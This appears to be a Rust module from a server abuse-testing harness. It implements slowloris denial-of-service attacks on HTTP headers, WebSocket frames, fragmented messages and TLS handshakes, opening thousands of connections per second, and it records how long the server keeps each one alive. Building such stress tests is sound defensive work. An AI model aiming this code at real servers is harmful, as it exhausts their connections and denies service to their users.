//! Connections that are as slow as possible ("slowloris"), in each layer.

use std::{
    io::Write,
    net::{Ipv4Addr, SocketAddr},
    time::{Duration, Instant},
};

use anyhow::{Context, Result};
use rustls::{ClientConnection, pki_types::ServerName};

use super::{Abuse, Attack, Tally, count, peer::Peer};
use crate::{
    trust,
    websocket::{frame, request},
};

/// The time between two rounds.
const STROKE: Duration = Duration::from_millis(20);

/// The number of rounds between two checks for connections that have ended.
const LOOK_AFTER: usize = 5;

/// The time between two bytes on a connection.
const INTERVAL: Duration = Duration::from_secs(1);

/// The number of connections that are opened in a round: four thousand per second, which is less
/// than servers accept.
const OPENED: usize = 80;

pub(super) struct Slow {
    abuse: Abuse,
    server: SocketAddr,
    count: usize,
    opened: usize,
    strokes: usize,
    peers: Vec<SlowConnection>,
    /// The bytes that are sent at once, and those that are then sent one by one, repeatedly.
    begin: Vec<u8>,
    rest: Vec<u8>,
}

struct SlowConnection {
    peer: Peer,
    since: Instant,
    next: Instant,
    sent: usize,
}

impl Slow {
    pub(super) fn new(abuse: Abuse, server: SocketAddr, count: usize) -> Result<Self> {
        let (begin, rest) = match abuse {
            Abuse::SlowHeads => {
                let head = request("/echo", "").into_bytes();
                (head[..20].to_vec(), head[20..head.len() - 4].to_vec())
            }
            Abuse::SlowFrames => {
                let whole = frame(0x1, &[b'x'; 60_000]).to_bytes();
                (whole[..9].to_vec(), b"x".to_vec())
            }
            Abuse::SlowMessages => {
                let first = frame(0x1, b"x").with_fin(false).to_bytes();
                (first, frame(0x0, b"x").with_fin(false).to_bytes())
            }
            Abuse::SlowTls => {
                let hello = hello()?;
                (hello[..20].to_vec(), hello[20..hello.len() - 1].to_vec())
            }
            _ => (Vec::new(), Vec::new()),
        };
        Ok(Self {
            abuse,
            server,
            count,
            opened: 0,
            strokes: 0,
            peers: Vec::with_capacity(count),
            begin,
            rest,
        })
    }

    fn open(&self) -> Result<SlowConnection> {
        let mut peer = match self.abuse {
            Abuse::SlowFrames | Abuse::SlowMessages => {
                let path = "/raw?channel=demo:slow";
                let mut peer = Peer::ask(self.server, path, "")?;
                peer.wait_for_open()?;
                peer
            }
            _ => Peer::connect(self.server)?,
        };
        peer.stream.write_all(&self.begin)?;
        let now = Instant::now();
        Ok(SlowConnection {
            peer: peer.unblock()?,
            since: now,
            next: now + INTERVAL,
            sent: 0,
        })
    }
}

impl Attack for Slow {
    fn stroke(&mut self, tally: &mut Tally) -> Result<Duration> {
        for _ in 0..OPENED.min(self.count - self.opened) {
            let opened = self.open().context("attacker cannot connect")?;
            self.peers.push(opened);
            self.opened += 1;
            count(tally, "connections", 1);
        }
        let now = Instant::now();
        let dribbles = self.abuse != Abuse::SlowTcp;
        for slow in &mut self.peers {
            if dribbles && now >= slow.next {
                slow.peer.unsent = vec![self.rest[slow.sent % self.rest.len()]];
                slow.peer.send();
                slow.sent += 1;
                slow.next = now + INTERVAL;
            }
        }
        self.strokes += 1;
        if !self.strokes.is_multiple_of(LOOK_AFTER) {
            return Ok(STROKE);
        }
        self.peers.retain_mut(|slow| {
            slow.peer.ignore_input();
            if slow.peer.is_lost {
                note_end(tally, slow.since.elapsed());
            }
            !slow.peer.is_lost
        });
        Ok(STROKE)
    }
}

/// Records how long a connection stayed open.
fn note_end(tally: &mut Tally, lived: Duration) {
    let lived = u64::try_from(lived.as_millis()).unwrap_or(u64::MAX);
    count(tally, "gone", 1);
    let last = tally.entry("last gone after ms".to_owned()).or_default();
    *last = lived.max(*last);
    let first = tally.entry("first gone after ms".to_owned());
    let first = first.or_insert(lived);
    *first = lived.min(*first);
}

/// Returns the first TLS record of a client.
fn hello() -> Result<Vec<u8>> {
    let name = ServerName::from(std::net::IpAddr::from(Ipv4Addr::LOCALHOST));
    let mut connection = ClientConnection::new(trust::anybody(), name)?;
    let mut hello = Vec::new();
    connection.write_tls(&mut hello)?;
    Ok(hello)
}
